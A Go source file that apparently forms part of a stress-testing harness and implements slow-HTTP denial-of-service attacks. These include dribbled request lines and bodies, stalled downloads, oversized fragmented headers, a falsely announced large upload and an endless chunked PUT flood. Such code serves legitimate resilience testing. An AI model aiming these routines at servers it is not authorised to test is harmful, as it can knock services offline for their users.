package attack

import (
	"context"
	"io"
	"slices"
	"strings"
	"time"
)

// largeField is a header field that leaves little room within limits.header.
var largeField = "X: " + strings.Repeat("x", 15000)

// withoutContext returns the Hold of an attack that ends with its connection.
func withoutContext(hold func(*Conn)) func(context.Context, *Conn) {
	return func(_ context.Context, c *Conn) { hold(c) }
}

func waitUntilClosed(_ context.Context, c *Conn) { c.readToEnd() }

// downloadSlowly asks for the state with a large header, and reads none of it.
func downloadSlowly(ctx context.Context, c *Conn) {
	c.tcp.SetReadBuffer(4096)
	c.send("GET " + c.target.Path + " HTTP/1.1\r\nHost: a\r\n" + largeField + "\r\n\r\n")
	<-ctx.Done()
}

// downloadVersion does so with another version for each connection.
func downloadVersion(ctx context.Context, c *Conn) {
	if pause(ctx, time.Duration(c.index)*writeInterval) == nil {
		downloadSlowly(ctx, c)
	}
}

// sendLargeRecord sends a request by one call, which TLS makes a record of.
func sendLargeRecord(_ context.Context, c *Conn) {
	c.send("HEAD " + c.target.Path + " HTTP/1.1\r\nHost: a\r\n" + largeField + "\r\n\r\n")
	c.readToEnd()
}

// sendHalfHeader sends records of TLS that are small.
func sendHalfHeader(_ context.Context, c *Conn) {
	c.send("GET " + c.target.Path + " HTTP/1.1\r\nHost: a\r\n")
	for piece := range slices.Chunk([]byte(largeField), 2<<10) {
		c.send(string(piece))
	}
	c.readToEnd()
}

func dribbleLine(ctx context.Context, c *Conn) {
	c.send("GET " + c.target.Path)
	c.dribble(ctx, 'x')
}

func dribbleSecondLine(ctx context.Context, c *Conn) {
	c.send("HEAD " + c.target.Path + " HTTP/1.1\r\nHost: a\r\n\r\nGET /")
	c.dribble(ctx, 'x')
}

func dribbleBody(ctx context.Context, c *Conn) {
	c.sendPut("Content-Length: 100000")
	c.dribble(ctx, 'x')
}

// sendPut sends the header of a PUT.
func (c *Conn) sendPut(field string) error {
	header := "PUT " + c.target.Path + " HTTP/1.1\r\nHost: a\r\n" + field + "\r\n"
	if c.target.Token != "" {
		header += "Authorization: Bearer " + c.target.Token + "\r\n"
	}
	return c.send(header + "\r\n")
}

// announceUpload announces the largest state, and sends nothing of it.
func announceUpload(_ context.Context, c *Conn) {
	c.sendPut("Content-Length: 16777216")
	c.readToEnd()
}

// uploadForever uploads chunks without a token. It reads the response late, as
// many clients do.
func uploadForever(_ context.Context, c *Conn) {
	c.send("PUT " + c.target.Path + " HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\n")
	c.flood([]byte("4000\r\n" + strings.Repeat("x", 0x4000) + "\r\n"))
	io.CopyN(io.Discard, c, 1)
}
